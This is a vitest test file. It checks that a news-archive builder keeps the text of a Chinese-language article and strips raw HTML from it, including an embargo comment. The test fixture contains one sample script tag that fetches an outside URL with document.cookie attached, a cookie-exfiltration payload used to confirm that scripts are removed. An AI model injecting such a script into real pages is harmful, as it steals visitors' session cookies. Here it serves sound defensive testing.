// The archive keeps exactly the text that was printed: raw HTML is dropped from the page, so a script's source or an
// embargo comment in the manuscript never reaches the archived text (JSON-LD articleBody, articles.json, search).
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { articleText } from '../../src/archive/news-article.ts';
import { loadManuscript } from '../../src/manuscript/load.ts';
import { addFile } from '../helpers/build.ts';
import { tempFolder, type TempFolder } from '../helpers/paths.ts';

let temp: TempFolder;
beforeAll(async () => {
  temp = await tempFolder('archive-text');
});
afterAll(async () => temp?.remove());

it('holds the paragraphs and subheads, and nothing of the raw HTML blocks or inline tags', async () => {
  const dir = join(temp.path, 'story');
  await addFile(
    dir,
    'article.md',
    '---\nheadline: 港口夜间封闭\nlang: zh-CN\n---\n\n<!-- embargo until Friday 06:00: do not publish the minister\'s name -->\n\n码头自周五起夜间封闭。<span class="x">内联标签</span>保留文字。\n\n<script>fetch("https://example.org/?leak=" + document.cookie)</script>\n\n## 渔船照常\n\n渔船可以照常停靠。\n',
  );
  const text = articleText(await loadManuscript({ dir }));
  expect(text).toContain('码头自周五起夜间封闭。');
  expect(text).toContain('保留文字');
  expect(text).toContain('渔船照常');
  expect(text).toContain('渔船可以照常停靠。');
  for (const hidden of ['embargo', 'minister', 'fetch', 'cookie', '<script', '<span', '<!--']) expect(text).not.toContain(hidden);
});
